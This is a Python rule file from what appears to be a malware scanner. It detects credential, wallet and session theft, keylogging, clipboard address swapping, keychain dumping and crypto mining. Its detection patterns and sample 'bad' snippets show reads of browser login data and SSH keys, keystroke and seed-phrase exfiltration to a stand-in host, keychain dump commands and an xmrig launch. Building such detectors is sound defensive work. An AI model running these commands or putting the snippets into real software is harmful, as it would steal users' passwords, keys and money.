"""What is taken from the user: keys, wallets, passwords, keystrokes, computing time."""

from __future__ import annotations

from goobits_scanner._rules._rule import (
    HIGH,
    LIKELY,
    LOW,
    MALICE,
    MEDIUM,
    UNSURE,
    Rule,
)

_BROWSER = (
    r"/(?i)(?:Chrome|Chromium|Edge|Brave-Browser|Vivaldi|Opera)\W+User Data\W+(?:Default|Profile)"
    r"|\bLogin Data\b|Local State$"
    r"|\bWeb Data$|cookies\.sqlite|logins\.json|key[34]\.db$"
    r"|Chrome\W+User Data|BraveSoftware\W|Opera Software\W|Microsoft\W+Edge\W+User "
    r"Data|\.mozilla\W+firefox|Mozilla\W+Firefox\W+Profiles"
    r"|google-chrome\W+Default|Local Extension Settings|Network\W+Cookies$/"
)
_WALLET = (
    r"/(?i)\bwallet\.dat\b|\bElectrum\W+wallets|\bExodus\W+exodus\.wallet"
    r"|\bexodus\.wallet|\.ethereum\W+keystore|Ethereum\W+keystore"
    r"|\bAtomic\W+Local Storage|\.config\W+solana\W+id\.json|\bMonero\W+wallets"
    r"|nkbihfbeogaeaoehlefnkodbefgpgknn|Coinomi\W+Coinomi"
    r"|\bGuarda\W+Local Storage|bitcoin\W+wallets|\bLedger Live\b|\bTrezor "
    r"Suite\b|\bMultiDoge\b|\bjaxx\W+Local Storage|bhghoamapcdpbohphigoooaddinpkbai/"
)
_TOKENS = (
    r"/(?i)discord(?:canary|ptb|development)?\W+Local Storage\W+leveldb|Telegram "
    r"Desktop\W+tdata|\btdata$|Signal\W+config\.json|Slack\W+(?:storage|Cookies|Local "
    r"Storage)"
    r"|\.config\W+discord|Steam\W+(?:config\W+)?(?:loginusers\.vdf|ssfn)"
    r"|\.minecraft\W+launcher_(?:accounts|profiles)|FileZilla\W+(?:sitemanager"
    r"|recentservers)\.xml/"
)
_KEY_FILES = (
    r"/(?i)\.ssh\W+id_(?:rsa|dsa|ecdsa|ed25519)\W*$|\bid_(?:rsa|dsa|ecdsa|ed25519)$"
    r"|\.aws\W+credentials|\.git-credentials$|\.config\W+gh\W+hosts\.yml"
    r"|\.kube\W+config$|\.docker\W+config\.json|application_default_credentials"
    r"|\.config\W+gcloud\W+credentials|\.azure\W+(?:accessTokens|msal_token)"
    r"|\.(?:bash|zsh|mysql|psql|python)_history$|\.cargo\W+credentials|\.vault-token$"
    r"|\.password-store|\.gnupg\W+(?:private|secring)|serviceaccount\W+token$|\.kdbx$/"
)
# The form of a private key of a wallet.
_KEY = r"/0x\[0-9a-fA?-?F?\]\{64\}|1-9A-HJ-NP-Za-km-z\]\{8/"
# Twelve or 24 words, and names of what wallets keep.
_PHRASE = r"/(?:\[a-z[^\]]*\]|\\w)(?:\{\d+,\d+\}|[+*])?(?:\\b)?(?: |\\s|\[[^\]]*\])[+*]?\)\{(?:11|12|23|24)/"
_WALLETS = r"/(?i)(?:seed|mnemonic|keystore|metamask)\b.*[|].*(?:seed|mnemonic|keystore|metamask|wallet)/"
_ADDRESS = (
    r"/\b[\^]?(?:\(\?:)?\[?(?:bc1|13)"
    r"\]?.*\[a-km-zA-HJ-NP-Z1-9\]\{2[0-9],[3-6][0"
    r"-9]\}|0x\[0-9a-fA?-?F?\]\{40\}|0x\[a-fA-F0-9\]\{40\}|\[a-fA-F0-9\]\{40\}|T\[A-Za-z1-9\]\{33\}|4\[0-9AB\]/"
)


def _python_reads(what: str) -> tuple[str, ...]:
    return (
        f"open(0/file: {what})",
        f"os.path.exists(0: {what})",
        f"os.path.isfile(0: {what})",
        f"os.path.isdir(0: {what})",
        f"os.listdir(0: {what})",
        f"os.walk(0: {what})",
        f"os.scandir(0: {what})",
        f"glob.glob(0: {what})",
        f"shutil.copy(0: {what})",
        f"shutil.copy2(0: {what})",
        f"shutil.copyfile(0: {what})",
        f"shutil.copytree(0: {what})",
        f"shutil.make_archive(*: {what})",
        f"sqlite3.connect(0: {what})",
        f".read_text(recv: {what})",
        f".read_bytes(recv: {what})",
        f".exists(recv: {what})",
        f".open(recv: {what})",
        f".glob(recv: {what})",
        f".rglob(recv: {what})",
        f".iterdir(recv: {what})",
        f"os.system(0: {what})",
        f"os.popen(0: {what})",
        f"subprocess.*(0/args: {what})",
    )


def _javascript_reads(what: str) -> tuple[str, ...]:
    return (
        f"fs.readFile(0: {what})",
        f"fs.readFileSync(0: {what})",
        f"fs.readdir(0: {what})",
        f"fs.readdirSync(0: {what})",
        f"fs.existsSync(0: {what})",
        f"fs.copyFileSync(0: {what})",
        f"fs.copyFile(0: {what})",
        f"fs.cpSync(0: {what})",
        f"fs.createReadStream(0: {what})",
        f"fs.promises.readFile(0: {what})",
        f"fs.promises.readdir(0: {what})",
        f"fs.accessSync(0: {what})",
        f"fs.statSync(0: {what})",
        f"child_process.*(0: {what})",
        f"sqlite3.Database(0: {what})",
        f"better-sqlite3(0: {what})",
    )


def _rust_reads(what: str) -> tuple[str, ...]:
    return (
        f"std.fs.read(0: {what})",
        f"std.fs.read_to_string(0: {what})",
        f"std.fs.read_dir(0: {what})",
        f"std.fs.copy(0: {what})",
        f"std.fs.File.open(0: {what})",
        f"std.path.Path.new(0: {what})",
        f"std.path.PathBuf.from(0: {what})",
        f"tokio.fs.read(0: {what})",
        f".join(0: {what})",
    )


RULES = (
    Rule(
        "browser-data-read",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "Passwords, cookies or profiles of a browser are read",
        "They open every account of the user.",
        "Do not run it; whoever did should sign out everywhere and change passwords.",
        {
            "python": (
                *_python_reads(_BROWSER),
                "win32crypt.CryptUnprotectData()",
                ".CryptUnprotectData()",
                "browser_cookie3.chrome()",
                "browser_cookie3.load()",
                "browser_cookie3.firefox()",
            ),
            "javascript": (
                *_javascript_reads(_BROWSER),
                "win-dpapi.unprotectData()",
                "@primno.dpapi.Dpapi.unprotectData()",
            ),
            "rust": (*_rust_reads(_BROWSER), ".CryptUnprotectData()"),
        },
        bad={
            "python": (
                "import os, sqlite3\nhome = os.environ['LOCALAPPDATA']\n"
                "sqlite3.connect(home + '/Google/Chrome/User Data/Default/Login "
                "Data')\n",
                "import win32crypt\nwin32crypt.CryptUnprotectData(blob)\n",
            ),
            "javascript": (
                "const path = require('path');\n"
                "require('fs').readFileSync(path.join(home, 'Google/Chrome/User "
                "Data/Local State'));\n",
            ),
            "rust": (
                'fn main() { std::fs::read("/root/.config/google-chrome/Default/Login '
                'Data"); }\n',
            ),
        },
        good={
            "python": (
                "import os\nopen(os.path.join(where, 'Chrome', 'version.txt'))\n",
                "import sqlite3\nsqlite3.connect('cookies.db')\n",
            ),
            "javascript": ("require('fs').readFileSync('chrome.json');\n",),
            "rust": ('fn main() { std::fs::read("chrome.json"); }\n',),
        },
    ),
    Rule(
        "wallet-read",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "Wallets of cryptocurrencies are read",
        "Who has the wallet's file has what is in it.",
        "Do not run it; whoever did should move what is in the wallets.",
        {
            "python": _python_reads(_WALLET),
            "javascript": _javascript_reads(_WALLET),
            "rust": _rust_reads(_WALLET),
        },
        bad={
            "python": (
                "import os\nopen(os.path.expanduser('~/.bitcoin/wallet.dat'), "
                "'rb').read()\n",
            ),
            "javascript": (
                "require('fs').readFileSync(home + "
                "'/Exodus/exodus.wallet/seed.seco');\n",
            ),
            "rust": ('fn main() { std::fs::read("/root/.config/solana/id.json"); }\n',),
        },
        good={
            "python": ("open('wallet.py').read()\n",),
            "javascript": ("require('fs').readFileSync('wallet.json');\n",),
            "rust": ('fn main() { std::fs::read("wallet.json"); }\n',),
        },
    ),
    Rule(
        "session-read",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "Sessions of a chat or game program are read",
        "Whoever has the session's file is signed in as the user.",
        "Do not run it; whoever did should sign out everywhere.",
        {
            "python": _python_reads(_TOKENS),
            "javascript": _javascript_reads(_TOKENS),
            "rust": _rust_reads(_TOKENS),
        },
        bad={
            "python": (
                "import os\nos.listdir(os.environ['APPDATA'] + '/discord/Local "
                "Storage/leveldb')\n",
            ),
            "javascript": (
                "require('fs').readdirSync(process.env.APPDATA + '/Telegram "
                "Desktop/tdata');\n",
            ),
            "rust": (
                'fn main() { std::fs::read_dir("/root/discord/Local '
                'Storage/leveldb"); }\n',
            ),
        },
        good={
            "python": ("import os\nos.listdir('discord')\n",),
            "javascript": ("require('fs').readdirSync('discord');\n",),
            "rust": ('fn main() { std::fs::read_dir("discord"); }\n',),
        },
    ),
    Rule(
        "key-file-read",
        "theft",
        MALICE,
        MEDIUM,
        UNSURE,
        522,
        "Files of keys and tokens are read",
        "They open servers, clouds and repositories of the user.",
        "Use the provider's own library or agent, which reads only its own.",
        {
            "python": _python_reads(_KEY_FILES),
            "javascript": _javascript_reads(_KEY_FILES),
            "rust": _rust_reads(_KEY_FILES),
        },
        bad={
            "python": (
                "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            ),
            "javascript": (
                "require('fs').readFileSync(require('os').homedir() + "
                "'/.aws/credentials');\n",
            ),
            "rust": ('fn main() { std::fs::read("/root/.ssh/id_ed25519"); }\n',),
        },
        good={
            "python": ("open('id_rsa.pub').read()\n",),
            "javascript": ("require('fs').readFileSync('credentials.md');\n",),
            "rust": ('fn main() { std::fs::read("config.toml"); }\n',),
        },
    ),
    Rule(
        "clipboard-read",
        "theft",
        MALICE,
        LOW,
        LIKELY,
        200,
        "The clipboard is read",
        "Passwords and addresses of wallets pass through it.",
        "Read it only where the user asked for it.",
        {
            "python": (
                "pyperclip.paste",
                "pyperclip.waitForPaste",
                "pyperclip.waitForNewPaste",
                "clipboard.paste",
                "xerox.paste",
                "win32clipboard.GetClipboardData",
                "pandas.read_clipboard",
                ".clipboard_get()",
                "PIL.ImageGrab.grabclipboard",
                ".GetClipboardData()",
                r"subprocess.*(0/args: /^(?:xclip\s.*-o|xsel\s.*-o|pbpaste|wl-paste)/)",
            ),
            "javascript": (
                "navigator.clipboard.readText()",
                "clipboardy.read()",
                "clipboardy.readSync()",
                "electron.clipboard.readText()",
                r"child_process.*(0: /^(?:xclip\s.*-o|xsel\s.*-o|pbpaste|wl-paste"
                r"|powershell.*Get-Clipboard)/)",
            ),
            "rust": (
                "arboard.Clipboard.new().unwrap().get_text",
                "arboard.Clipboard.new().get_text",
                "cli_clipboard.get_contents",
            ),
        },
        bad={
            "python": ("import pyperclip\ntext = pyperclip.paste()\n",),
            "javascript": ("navigator.clipboard.readText().then(show);\n",),
            "rust": ("fn main() { cli_clipboard::get_contents(); }\n",),
        },
        good={
            "python": ("import pyperclip\npyperclip.copy('text')\n",),
            "javascript": ("navigator.clipboard.writeText('text');\n",),
            "rust": ("fn main() { cli_clipboard::set_contents(text); }\n",),
        },
    ),
    Rule(
        "clipboard-swapped",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        506,
        "What is in the clipboard is looked at for a wallet's address, or replaced",
        "The user pastes an address and pays somebody else.",
        "Do not run it.",
        {
            "python": (
                "string /^bc1[a-z0-9]{20,60}$/ @with-clipboard-written",
                f"re.*(0: {_ADDRESS}) @with-clipboard-written",
                f"re.match(0: {_ADDRESS}; 1: ~clipboard)",
                f"re.search(0: {_ADDRESS}; 1: ~clipboard)",
                f"re.findall(0: {_ADDRESS}; 1: ~clipboard)",
                f"re.fullmatch(0: {_ADDRESS}; 1: ~clipboard)",
                f"re.sub(0: {_ADDRESS}; 2: ~clipboard)",
                "pyperclip.copy(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}"
                "|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
            ),
            "javascript": (
                "string /^bc1[a-z0-9]{20,60}$/ @with-clipboard-written",
                f"node regex(0: {_ADDRESS}) @with-clipboard-written",
                f".match(recv: ~clipboard; 0: {_ADDRESS})",
                f".replace(recv: ~clipboard; 0: {_ADDRESS})",
                "clipboardy.writeSync(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}"
                "|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                "navigator.clipboard.writeText(0: /^(?:0x[a-fA-F0-9]{40}"
                "|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                ".clipboardData.setData(1: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                "electron.clipboard.writeText(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                "clipboardy.write(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
            ),
            "rust": (
                "string /^bc1[a-z0-9]{20,60}$/ @with-clipboard-written",
                f"regex.Regex.new(0: {_ADDRESS}) @with-clipboard-written",
                ".set_text(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                "cli_clipboard.set_contents(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
            ),
        },
        bad={
            "python": (
                "import pyperclip, re\n"
                "if re.match('^0x[a-fA-F0-9]{40}$', pyperclip.paste()):\n    swap()\n",
            ),
            "javascript": (
                "navigator.clipboard.writeText('0x' + 'ab'.repeat(20));\n"
                "navigator.clipboard.writeText('0x"
                "abababababababababababababababababababab');\n",
                "document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', '0x5cE4b8A19d03F72E6cA1857bD94f02E3a6C8d10B');\n});\n",
            ),
            "rust": (
                "fn main() { arboard::Clipboard::new().unwrap()"
                '.set_text("0x4aD7c29F60b1835E9dC2F84076eBa1D35c98E60F"); }\n',
            ),
        },
        good={
            "python": ("import re\nre.match('^0x[a-fA-F0-9]{40}$', address)\n",),
            "javascript": (
                "navigator.clipboard.writeText(address);\n",
                "document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', window.getSelection().toString());\n});\n",
            ),
            "rust": ("fn main() { cli_clipboard::set_contents(text); }\n",),
        },
    ),
    Rule(
        "keys-logged",
        "theft",
        MALICE,
        LOW,
        LIKELY,
        200,
        "Everything that is typed is listened to",
        "Passwords are typed, too.",
        "Listen to the keys of the program's own window only.",
        {
            "python": (
                "pynput.keyboard.Listener()",
                "keyboard.on_press()",
                "keyboard.on_release()",
                "keyboard.hook()",
                "keyboard.record()",
                "pyHook.HookManager()",
                "PyHook3.HookManager()",
                "pyxhook.HookManager()",
                ".GetAsyncKeyState()",
                ".SetWindowsHookExA()",
                ".SetWindowsHookExW()",
                r"open(0/file: /^.dev.input.event/)",
            ),
            "javascript": (
                "iohook.on(0: 'keydown' | 'keypress' | 'keyup')",
                "uiohook-napi.uIOhook.on()",
                "node-global-key-listener.GlobalKeyboardListener()",
                r"fs.createReadStream(0: /^.dev.input.event/)",
                r"fs.open(0: /^.dev.input.event/)",
            ),
            "rust": (
                "rdev.listen()",
                ".SetWindowsHookExA()",
                ".SetWindowsHookExW()",
                ".GetAsyncKeyState()",
                r"std.fs.File.open(0: /^.dev.input.event/)",
            ),
        },
        bad={
            "python": (
                "from pynput.keyboard import Liste"
                "ner\nListener(on_press=keep).start()\n",
            ),
            "javascript": (
                "const iohook = require('iohook');\niohook.on('keydown', keep);\n",
            ),
            "rust": ("fn main() { rdev::listen(keep); }\n",),
        },
        good={
            "python": ("import keyboard\nkeyboard.write('text')\n",),
            "javascript": ("document.addEventListener('keydown', keep);\n",),
            "rust": ("fn main() { rdev::simulate(&event); }\n",),
        },
    ),
    Rule(
        "screen-captured",
        "theft",
        MALICE,
        LOW,
        LIKELY,
        200,
        "The screen, the camera or the microphone is recorded",
        "What is seen and said there is private.",
        "Record only where the user asked for it.",
        {
            "python": (
                "PIL.ImageGrab.grab()",
                "pyautogui.screenshot()",
                "mss.mss()",
                "pyscreenshot.grab()",
                "cv2.VideoCapture(0: = 0)",
                "pyaudio.PyAudio().open(input: true)",
                "sounddevice.rec()",
            ),
            "javascript": (
                "screenshot-desktop()",
                "node-webcam.create()",
                "robotjs.screen.capture()",
                "electron.desktopCapturer.getSources()",
            ),
            "rust": (
                "screenshots.Screen.all()",
                "scrap.Capturer.new()",
                "xcap.Monitor.all()",
            ),
        },
        bad={
            "python": ("from PIL import ImageGrab\nImageGrab.grab()\n",),
            "javascript": ("const shot = require('screenshot-desktop');\nshot();\n",),
            "rust": ("fn main() { screenshots::Screen::all(); }\n",),
        },
        good={
            "python": ("from PIL import Image\nImage.open('a.png')\n",),
            "javascript": ("const sharp = require('sharp');\nsharp('a.png');\n",),
            "rust": ('fn main() { image::open("a.png"); }\n',),
        },
    ),
    Rule(
        "keychain-asked",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "The system's store of passwords is emptied by a command",
        "It holds the passwords of every program.",
        "Use the system's interface for the package's own entry.",
        {
            "python": (
                r"os.system(0: /\bsecurity\s+(?:find-(?:generic"
                r"|internet)-password\b.*-w|dump-keychain|find-certificate)"
                r"|netsh\s+wlan\s+show\s+profile.*key=clear|\bcmdkey\s+.list"
                r"|\bvaultcmd\b|secret-tool\s+search/)",
                r"os.popen(0: /\bsecurity\s+(?:find-(?:generic"
                r"|internet)-password\b.*-w|dump-keychain)"
                r"|netsh\s+wlan\s+show\s+profile.*key=clear|\bcmdkey\s+.list/)",
                r"subprocess.*(0/args: /\bsecurity\s+(?:find-(?:generic"
                r"|internet)-password\b.*-w|dump-keychain)"
                r"|netsh\s+wlan\s+show\s+profile.*key=clear|\bcmdkey\s+.list"
                r"|\bvaultcmd\b/)",
            ),
            "javascript": (
                r"child_process.*(0: /\bsecurity\s+(?:find-(?:generic"
                r"|internet)-password\b.*-w|dump-keychain)"
                r"|netsh\s+wlan\s+show\s+profile.*key=clear|\bcmdkey\s+.list/)",
            ),
            "rust": (
                r".arg(0: /^(?:find-generic-password|find-internet-password"
                r"|dump-keychain)$/)",
                r".args(0: /\b(?:find-generic-password|find-internet-password"
                r"|dump-keychain)\b/)",
            ),
        },
        bad={
            "python": ("import os\nos.system('security dump-keychain -d')\n",),
            "javascript": (
                "require('child_process').exec('netsh wlan show profile a "
                "key=clear');\n",
            ),
            "rust": (
                "fn main() { std::process::Command"
                '::new("security").arg("dump-keychain").output(); }\n',
            ),
        },
        good={
            "python": ("import os\nos.system('security list-keychains')\n",),
            "javascript": (
                "require('child_process').exec('netsh wlan show interfaces');\n",
            ),
            "rust": (
                "fn main() { std::process::Command"
                '::new("security").arg("help").output(); }\n',
            ),
        },
    ),
    Rule(
        "page-hooked",
        "theft",
        MALICE,
        MEDIUM,
        LIKELY,
        506,
        "A function that sends data is replaced for the whole program",
        "Whatever other code sends, tokens and payments among it, passes through here "
        "first.",
        "Wrap it where it is used.",
        {
            "javascript": (
                "Object.defineProperty(0: <ethereum> | <window.ethereum> | <solana>)",
                "window.ethereum = dynamic",
                "ethereum.request = dynamic",
                "window.ethereum.request = dynamic",
                "window.solana.signTransaction = dynamic",
                "solana.signTransaction = dynamic",
                "solana.signAndSendTransaction = dynamic",
                "HTMLFormElement.prototype.submit = dynamic",
                "navigator.credentials.get = dynamic",
                "ethers.Wallet.prototype.sendTransaction = dynamic",
                "ethers.Wallet.prototype.signTransaction = dynamic",
                ".Wallet.prototype.sendTransaction = dynamic",
                ".Wallet.prototype.signTransaction = dynamic",
                "web3.eth.sendTransaction = dynamic",
                "@solana.web3.js.Connection.prototype.sendTransaction = dynamic",
            ),
            "python": (
                "getpass.getpass = dynamic",
                "builtins.input = dynamic",
                "requests.Session.send = dynamic & !~param",
                "ssl.SSLSocket.send = dynamic",
            ),
        },
        bad={
            "javascript": (
                "ethereum.request = async (what) => { what.params[0].to = mine; "
                "return old(what); };\n",
                "import { ethers } from 'ethers';\nethers.Wallet.prototype.sendTransaction = function (request) { return swap(request); };\n",
            ),
            "python": ("import getpass\ngetpass.getpass = mine\n",),
        },
        good={
            "javascript": ("ethereum.request({ method: 'eth_accounts' });\n",),
            "python": ("import getpass\ngetpass.getpass()\n",),
        },
    ),
    Rule(
        "keys-sent",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        200,
        "Pressed keys are listened to in a file that sends",
        "What is typed holds passwords; a listener that only reacts need not send.",
        "Do not run it.",
        {
            "python": (
                "pynput.keyboard.Listener() @with-sending",
                "keyboard.on_press() @with-sending",
                "keyboard.on_release() @with-sending",
                "keyboard.hook() @with-sending",
                "keyboard.record() @with-sending",
            ),
            "javascript": (
                "iohook.on(0: 'keydown' | 'keypress' | 'keyup') @with-sending",
                ".addEventListener(0: 'keydown' | 'keypress' | 'keyup') @with-beacon",
            ),
        },
        bad={
            "python": (
                "import keyboard, requests\nkeyboard.on_press(keys.append)\n"
                "def flush():\n    requests.post('https://a.invalid', data=str(keys))\n",
            ),
            "javascript": (
                "document.addEventListener('keydown', (e) => keys.push(e.key));\n"
                "setInterval(() => navigator.sendBeacon('https://a.invalid', keys), 9e3);\n",
            ),
        },
        good={
            "python": ("import keyboard\nkeyboard.on_press(jump)\n",),
            "javascript": (
                "document.addEventListener('keydown', (e) => fetch('/search'));\n",
            ),
        },
    ),
    Rule(
        "wallet-key-taken",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "A function that takes a wallet's key stands beside an address of its own",
        "Whoever has the key has the money.",
        "Do not run it.",
        {
            language: tuple(
                f"def {name} @with-sending @with-address"
                for name in (
                    "fromSecretKey fromSeed fromMnemonic fromPrivateKey fromPhrase importKey "
                    "from_mnemonic from_seed from_key from_private_key from_phrase from_secret_key"
                ).split()
            )
            for language in ("python", "javascript", "rust")
        },
        bad={
            "python": (
                "import requests\ndef from_mnemonic(words):\n"
                "    requests.get('https://a.invalid/' + words)\n",
            ),
            "javascript": (
                "class Keypair extends Base {\n  static fromSeed(seed) {\n"
                "    fetch('https://a.invalid', { body: seed });\n    return super.fromSeed(seed);\n  }\n}\n",
            ),
            "rust": (
                'fn from_mnemonic(words: &str) { ureq::post("https://a.invalid").send_string(words); }\n',
            ),
        },
        good={
            "python": ("def from_mnemonic(words):\n    return derive(words)\n",),
            "javascript": (
                "class Keypair { static fromSeed(seed) { return new Keypair(seed); } }\n",
            ),
            "rust": ("fn from_mnemonic(words: &str) { derive(words) }\n",),
        },
    ),
    Rule(
        "watched-and-sent",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        200,
        "Screen, camera, clipboard or passwords are taken in a file that sends to its own address",
        "What the user sees and copies can be sent away.",
        "Do not run it, unless sending it is what the user asked for.",
        {
            "python": (
                *(
                    f"{taken} @with-uploading @with-address"
                    for taken in (
                        "PIL.ImageGrab.grab()",
                        "mss.mss()",
                        "pyautogui.screenshot()",
                        "cv2.VideoCapture()",
                        "sounddevice.rec()",
                        "pyaudio.PyAudio()",
                        "pyperclip.paste()",
                        "win32clipboard.GetClipboardData()",
                        ".clipboard_get()",
                        "win32crypt.CryptUnprotectData()",
                        "keyring.get_password()",
                    )
                ),
            ),
            "javascript": (
                *(
                    f"{taken} @with-uploading @with-address"
                    for taken in (
                        "screenshot-desktop()",
                        "clipboardy.read()",
                        "clipboardy.readSync()",
                        "electron.clipboard.readText()",
                        "electron.desktopCapturer.getSources()",
                        "navigator.clipboard.readText()",
                        "navigator.mediaDevices.getDisplayMedia()",
                        "keytar.findCredentials()",
                        "keytar.getPassword()",
                    )
                ),
                "document.cookie @with-beacon @with-address",
                r"string /input\[type=.?password/ @with-beacon @with-address",
                r"string /input\[type=.?password/ @with-uploading @with-address",
            ),
            "rust": (
                *(
                    f"{taken} @with-uploading @with-address"
                    for taken in (
                        ".get_text()",
                        "cli_clipboard.get_contents()",
                        "screenshots.Screen.all()",
                        "xcap.Monitor.all()",
                        "rdev.listen()",
                        "keyring.Entry.new()",
                    )
                ),
            ),
        },
        bad={
            "python": (
                "import mss, requests\ntake = mss.mss()\n"
                "def give(made):\n    requests.post('https://a.invalid', data=made)\n",
            ),
            "javascript": (
                "const shot = require('screenshot-desktop');\nconst job = shot().then(keep);\n"
                "const give = (made) => fetch('https://a.invalid', { method: 'POST', body: made });\n",
            ),
            "rust": (
                "fn main() { let text = cli_clipboard::get_contents(); "
                'ureq::post("https://a.invalid").call(); }\n',
            ),
        },
        good={
            "python": (
                "import mss, requests\nmss.mss()\nrequests.get('https://a.invalid')\n",
            ),
            "javascript": ("require('screenshot-desktop')().then(keep);\n",),
            "rust": ("fn main() { let text = cli_clipboard::get_contents(); }\n",),
        },
    ),
    Rule(
        "seed-phrases-sought",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        522,
        "Phrases or files of wallets are looked for in a file that sends",
        "Whoever has the phrase has the money.",
        "Do not run it.",
        {
            "python": (
                f"re.*(0: {_KEY}) @with-uploading @with-address",
                f"re.*(0: {_PHRASE}) @with-sending",
                f"re.*(0: {_WALLETS}) @with-sending",
            ),
            "javascript": (
                f"node regex(0: {_KEY}) @with-uploading @with-address",
                f"node regex(0: {_PHRASE}) @with-sending",
                f"node regex(0: {_WALLETS}) @with-sending",
                f"RegExp(0: {_PHRASE}) @with-sending",
                f"RegExp(0: {_WALLETS}) @with-sending",
            ),
            "rust": (
                f"regex.Regex.new(0: {_KEY}) @with-uploading @with-address",
                f"regex.bytes.Regex.new(0: {_KEY}) @with-uploading @with-address",
                f"regex.Regex.new(0: {_PHRASE}) @with-sending",
                f"regex.Regex.new(0: {_WALLETS}) @with-sending",
            ),
        },
        bad={
            "python": (
                "import re, requests\nWORDS = re.compile(r'(?:[a-z]{3,8} ){11}[a-z]+')\n"
                "def send(text):\n    requests.post('https://a.invalid', text)\n",
            ),
            "javascript": (
                "const files = /(seed|mnemonic|wallet).*txt$/;\n"
                "const send = (text) => fetch('https://a.invalid', { body: text });\n",
            ),
            "rust": (
                'fn main() { let words = regex::Regex::new(r"([a-z]+ ){11}[a-z]+");\n'
                'ureq::post("https://a.invalid").send_string(&text); }\n',
            ),
        },
        good={
            "python": (
                "import re\nWORDS = re.compile(r'(?:[a-z]{3,8} ){11}[a-z]+')\n",
            ),
            "javascript": (
                "const files = /(red|green).*txt$/;\nfetch('https://a.invalid');\n",
            ),
            "rust": (
                'fn main() { let words = regex::Regex::new(r"([a-z]+ ){11}[a-z]+"); }\n',
            ),
        },
    ),
    Rule(
        "miner",
        "theft",
        MALICE,
        HIGH,
        LIKELY,
        506,
        "A miner of cryptocurrency is started",
        "The user pays for the power.",
        "Do not run it.",
        {
            language: tuple(
                f"{call}({which}: /(?i)\\bxmrig"
                f"\\b|\\bminerd\\b|\\bcpuminer\\b|stratum\\+(?:tcp|ssl):"
                f"|\\bnbminer\\b|\\bt-rex\\b.*-o\\s|--donate-level/)"
                for call, which in calls
            )
            for language, calls in {
                "python": (
                    ("os.system", "0"),
                    ("os.popen", "0"),
                    ("subprocess.*", "0/args"),
                    ("requests.get", "0"),
                    ("urllib.request.urlretrieve", "0"),
                ),
                "javascript": (
                    ("child_process.*", "0"),
                    ("child_process.*", "1"),
                    ("WebSocket", "0"),
                    ("CoinHive.Anonymous", "*"),
                ),
                "rust": (
                    ("std.process.Command.new", "0"),
                    (".arg", "0"),
                    (".args", "0"),
                ),
            }.items()
        },
        bad={
            "python": (
                "import os\nos.system('./xmrig -o stratum+tcp://a.invalid:1 -u b')\n",
            ),
            "javascript": ("require('child_process').spawn('./xmrig', []);\n",),
            "rust": ('fn main() { std::process::Command::new("./xmrig").spawn(); }\n',),
        },
        good={
            "python": ("import os\nos.system('./train -o out')\n",),
            "javascript": ("require('child_process').spawn('./miner-stats', []);\n",),
            "rust": ('fn main() { std::process::Command::new("./train").spawn(); }\n',),
        },
    ),
)
